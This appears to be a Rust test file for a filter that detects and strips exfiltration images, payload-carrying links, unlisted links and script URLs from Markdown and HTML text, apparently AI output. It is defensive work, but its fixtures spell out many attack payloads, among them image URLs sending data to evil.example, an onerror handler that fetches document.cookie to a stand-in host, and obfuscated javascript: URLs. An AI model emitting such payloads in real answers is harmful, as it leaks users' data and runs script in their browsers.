use super::*;

fn allowing(hosts: &[&str]) -> Allowlist {
    Allowlist {
        hosts: hosts.iter().map(|s| s.to_string()).collect(),
    }
}

fn kinds(text: &str, allow: &[&str]) -> Vec<Kind> {
    find(text, &allowing(allow))
        .into_iter()
        .map(|u| u.kind)
        .collect()
}

#[test]
fn image_exfiltration() {
    let t = "Sure! ![loading](https://evil.example/log?q=my%20ssn%20is%20123) done";
    let f = find(t, &Allowlist::default());
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].kind, Kind::ImageExfiltration);
    assert_eq!(
        &t[f[0].start..f[0].end],
        "![loading](https://evil.example/log?q=my%20ssn%20is%20123)"
    );
    assert_eq!(f[0].host.as_deref(), Some("evil.example"));
    // a data-carrying path segment
    assert_eq!(
        kinds(
            "![a](https://x.io/c/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ)",
            &[]
        ),
        [Kind::ImageExfiltration]
    );
    // a plain image is fine without an allowlist, flagged with one that does not list it
    assert!(kinds("![logo](https://cdn.example.com/logo.png)", &[]).is_empty());
    assert_eq!(
        kinds(
            "![logo](https://cdn.other.com/logo.png)",
            &["*.example.com"]
        ),
        [Kind::ImageExfiltration]
    );
    assert!(
        kinds(
            "![logo](https://cdn.example.com/logo.png?v=12345)",
            &["*.example.com"]
        )
        .is_empty()
    );
    assert_eq!(
        kinds(r#"<img src="https://evil.example/p?d=secretvalue">"#, &[]),
        [Kind::ImageExfiltration]
    );
}

#[test]
fn scripts_and_handlers() {
    assert_eq!(
        kinds("<script>alert(document.cookie)</script>", &[]),
        [Kind::Script]
    );
    assert_eq!(kinds("[click](javascript:alert(1))", &[]), [Kind::Script]);
    assert_eq!(
        kinds("run javascript:alert(1) in the bar", &[]),
        [Kind::Script]
    );
    assert_eq!(
        kinds(r#"<a href="javascript: alert(1)">x</a>"#, &[]),
        [Kind::Script]
    );
    // a heading that names the language is not a URL
    assert!(
        kinds(
            "  - JavaScript:\n    xgettext parses JSX more reliably.",
            &[]
        )
        .is_empty()
    );
    assert!(kinds("Languages: Python, JavaScript: both work.", &[]).is_empty());
    for url in ["data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)"] {
        assert_eq!(
            kinds(&format!("[x]({url}) ![x]({url})"), &[]),
            [Kind::Script; 2]
        );
    }
    assert_eq!(
        kinds(r#"<div onmouseover="steal()">hi</div>"#, &[]),
        [Kind::Script]
    );
    assert_eq!(
        kinds(r#"<iframe src="https://x"></iframe>"#, &[]),
        [Kind::Script]
    );
    assert!(kinds("Use `<div>` and `<span>` elements; x < y and y > z.", &[]).is_empty());
}

#[test]
fn markup_inside_markdown_code_is_shown_not_run() {
    let t = "Add this to your page:\n\n```html\n<script src=\"app.js\"></script>\n```\n\nor inline `<script>` tags.";
    assert!(
        kinds(t, &[]).is_empty(),
        "{:?}",
        find(t, &Allowlist::default())
    );
    // outside code it is still reported
    assert_eq!(
        kinds("Done. <script>alert(1)</script>", &[]),
        [Kind::Script]
    );
    // an unclosed fence covers the rest
    assert!(kinds("```\n<script>x</script>", &[]).is_empty());
}

#[test]
fn handlers_inside_image_and_link_tags_are_script() {
    assert_eq!(
        kinds(
            r#"<img src=x onerror="fetch('//e.example/'+document.cookie)">"#,
            &[]
        ),
        [Kind::Script]
    );
    assert_eq!(
        kinds(
            r#"<a href="https://ok.example/" onclick="steal()">x</a>"#,
            &[]
        ),
        [Kind::Script]
    );
    assert!(kinds(r#"<a href="https://ok.example/">only a link</a>"#, &[]).is_empty());
    // an unclosed tag: the page the answer is shown in may close it
    assert_eq!(
        removed("Look: <img src=x onerror=alert(1)//", &[]),
        "Look: "
    );
    assert!(kinds("a <img src=x alt=unclosed", &[]).is_empty());
}

#[test]
fn links_carrying_a_payload_without_an_allowlist() {
    let t = "[click here](https://evil.example/c?d=bXkgc3NuIGlzIDUzNi05MC00Mzk5IGFuZCBtb3Jl)";
    assert_eq!(kinds(t, &[]), [Kind::LinkExfiltration]);
    // ordinary parameters are not a payload
    assert!(kinds("[docs](https://docs.example.com/search?q=rust&page=2)", &[]).is_empty());
    assert!(kinds("see https://example.com/watch?v=dQw4w9WgXcQ", &[]).is_empty());
}

#[test]
fn links_outside_the_allowlist() {
    let t = "See [docs](https://docs.example.com/a) and https://phish.example.net/login now";
    assert_eq!(kinds(t, &["docs.example.com"]), [Kind::UnlistedLink]);
    assert!(kinds(t, &[]).is_empty());
}

/// The text left when every finding is removed.
fn removed(text: &str, allow: &[&str]) -> String {
    let mut out = String::new();
    let mut cursor = 0;
    for u in find(text, &allowing(allow)) {
        if u.start >= cursor {
            out.push_str(&text[cursor..u.start]);
        }
        cursor = cursor.max(u.end);
    }
    out.push_str(&text[cursor..]);
    out
}

#[test]
fn a_removed_image_takes_its_whole_url() {
    for image in [
        "![x](https://evil.example/log?data=536-90-4399)",
        "![x](https://evil.example/log#data=536-90-4399)",
        "![x](https://x.example/a_(b)?q=536-90-4399)",
        "![x](https://x.example/((a)(b))?q=536-90-4399)",
        "![x](<https://evil.example/a b?d=536-90-4399>)",
        "![x](https://evil.example/p?d=536-90-4399 \"title\")",
        "![x](https://evil.example/p?d=536-90-4399 'title')",
        "![x](https://evil.example/p?d=536-90-4399 (title))",
        "![x](\n  https://evil.example/p?d=536-90-4399\n  \"t\"\n)",
        r"![x](https://evil.example/a\)b?d=536-90-4399)",
        "![a [b] c](https://evil.example/p?d=536-90-4399)",
        r#"<img src="https://evil.example/p?d=536-90-4399">"#,
        r#"<img alt="a>b" width=1 src='https://evil.example/p?d=536-90-4399'>"#,
        "<IMG\nsrc=https://evil.example/p?d=536-90-4399 alt=x/>",
        r#"<img srcset="https://evil.example/p?d=536-90-4399 2x" src="a.png">"#,
    ] {
        let text = format!("Before {image} after.");
        assert_eq!(removed(&text, &[]), "Before  after.", "{image:?}");
        assert_eq!(kinds(&text, &[]), [Kind::ImageExfiltration], "{image:?}");
    }
}

#[test]
fn reference_style_images_take_their_definition_with_them() {
    let text = "Here ![x][ref] it is.\n\n[ref]: https://evil.example/?d=536-90-4399 \"t\"\nEnd.";
    let f = find(text, &Allowlist::default());
    assert_eq!(
        f.iter().map(|u| &text[u.start..u.end]).collect::<Vec<_>>(),
        [
            "![x][ref]",
            "[ref]: https://evil.example/?d=536-90-4399 \"t\""
        ]
    );
    assert!(f.iter().all(|u| u.kind == Kind::ImageExfiltration));
    assert_eq!(removed(text, &[]), "Here  it is.\n\n\nEnd.");
    // collapsed and shortcut forms, labels matched without case
    for image in ["![Ref][]", "![REF]"] {
        let text = format!("{image}\n\n[ref]: <https://evil.example/a b?d=12345>");
        assert_eq!(removed(&text, &[]), "\n\n", "{image}");
    }
    // a definition no image uses is only a link target
    assert!(kinds("[ref]: https://evil.example/?d=1\n", &[]).is_empty());
    // a reference to nothing is text
    assert!(kinds("![x][nothing] and [a][b]", &[]).is_empty());
}

#[test]
fn removed_links_take_their_whole_url() {
    let payload = "bXkgc3NuIGlzIDUzNi05MC00Mzk5IGFuZCBtb3Jl";
    for link in [
        format!("[click](https://evil.example/c?d={payload})"),
        format!("[click](https://evil.example/a_(b)?d={payload} \"t\")"),
        format!("[click](<https://evil.example/a b?d={payload}>)"),
        format!("<a title=\"a>b\" href=\"https://evil.example/c?d={payload}\">click</a>"),
        format!("https://evil.example?d={payload}"),
        format!("https://evil.example/a_(b)?d={payload}"),
    ] {
        let text = format!("Go {link} now.");
        assert_eq!(removed(&text, &[]), "Go  now.", "{link:?}");
    }
    let text = format!("See [c][r].\n\n[r]: https://evil.example/c?d={payload}\n");
    assert_eq!(removed(&text, &[]), "See .\n\n\n");
    // an unlisted host with an allowlist
    assert_eq!(
        removed(
            "See [x](https://phish.example/login?next=a \"t\") now",
            &["docs.example.com"]
        ),
        "See  now"
    );
}

#[test]
fn a_safe_link_around_an_unsafe_image_keeps_the_image_found() {
    let text = "[![x](https://evil.example/p?d=536-90-4399)](https://docs.example.com/)";
    assert_eq!(kinds(text, &[]), [Kind::ImageExfiltration]);
    assert!(!removed(text, &[]).contains("536"));
}

#[test]
fn script_urls_spelled_as_a_browser_decodes_them() {
    // character references and tabs inside a URL attribute or a Markdown destination are
    // decoded by the receiver before the scheme is read
    for t in [
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61vascript&colon;alert(1)\">x</a>",
        "<iframe src=\"&#106avascript:alert(1)\">",
        "<form action=\"javascript&colon;alert(1)\"><button>go</button></form>",
        "[x](java&#x09;script:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x]( javascript:alert(1) )",
    ] {
        assert_eq!(kinds(t, &[]), [Kind::Script], "{t}");
    }
    // a link's tag name may end with any white space
    assert_eq!(
        kinds(
            "<a\rhref=\"https://evil.example/?d=c2VjcmV0X3Rva2VuX3ZhbHVlXzEyMzQ1Njc4\">x</a>",
            &[]
        ),
        [Kind::LinkExfiltration]
    );
    // references elsewhere in a URL are not a scheme
    assert!(kinds("<a href=\"https://example.com/?q=&#106;\">x</a>", &[]).is_empty());
}
